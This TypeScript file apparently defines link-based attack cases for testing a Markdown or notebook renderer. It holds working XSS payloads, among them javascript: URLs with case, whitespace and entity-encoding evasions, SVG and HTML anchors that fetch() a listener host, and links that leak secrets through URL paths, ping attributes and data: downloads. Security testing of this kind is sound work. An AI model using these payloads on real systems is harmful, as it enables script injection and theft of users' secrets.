import type { Attack, Ears } from "../attack";

/** A link that does more than open its address when it is pressed. */
const link = (name: string, way: string, write: (ears: Ears) => string): Attack => ({
  name,
  door: "link",
  way,
  without: ["own renderer"],
  press: true,
  plant: (ears) => ({ cells: `${write(ears)}\n` }),
});

const code = (http: string) => `fetch('${http}/x')`;

export default [
  link("link-script", "script", ({ http }) => `[link-script](<javascript:${code(http)}>)`),
  link("link-script-case", "script", ({ http }) => `[link-script-case](<JavaScript:${code(http)}>)`),
  link("link-script-space", "script", ({ http }) => `[link-script-space](< javascript:${code(http)}>)`),
  link("link-script-tab", "script", ({ http }) => `[link-script-tab](<java&Tab;script:${code(http)}>)`),
  link("link-script-colon", "script", ({ http }) => `[link-script-colon](<javascript&colon;${code(http)}>)`),
  link(
    "link-script-reference",
    "script",
    ({ http }) => `[link-script-reference][run]\n\n[run]: <javascript:${code(http)}>`,
  ),
  link("link-script-auto", "script", ({ http }) => `<javascript:fetch('${http}/link-script-auto')>`),
  link(
    "link-script-title",
    "script",
    ({ http }) => `[link-script-title](<javascript:${code(http)}> "orders")`,
  ),
  link(
    "link-own-query",
    "same origin, with a query",
    ({ own }) => `[link-own-query](<./?${own.split("?")[1]!}>)`,
  ),
  link("link-value", "navigation", ({ http }) => `[link-value](<${http}/\${secrets}>)`),
  link(
    "link-value-reference",
    "navigation",
    ({ http }) => `[link-value-reference][there]\n\n[there]: <${http}/\${secrets}>`,
  ),
  link("link-html-script", "script", ({ http }) => `<a href="javascript:${code(http)}">link-html-script</a>`),
  link("link-ping", "ping", ({ http }) => `<a href="#" ping="${http}/x">link-ping</a>`),
  link(
    "link-download",
    "download",
    ({ secret }) => `<a href="data:text/csv,${secret}" download="link-download.csv">link-download</a>`,
  ),
  link(
    "link-svg",
    "script",
    ({ http }) => `<svg><a href="javascript:${code(http)}"><text y="20">link-svg</text></a></svg>`,
  ),
  link(
    "link-area",
    "navigation",
    ({ http }) => `<img usemap="#m" src="data:,"><map name="m"><area href="${http}/x" alt="link-area"></map>`,
  ),
] satisfies Attack[];
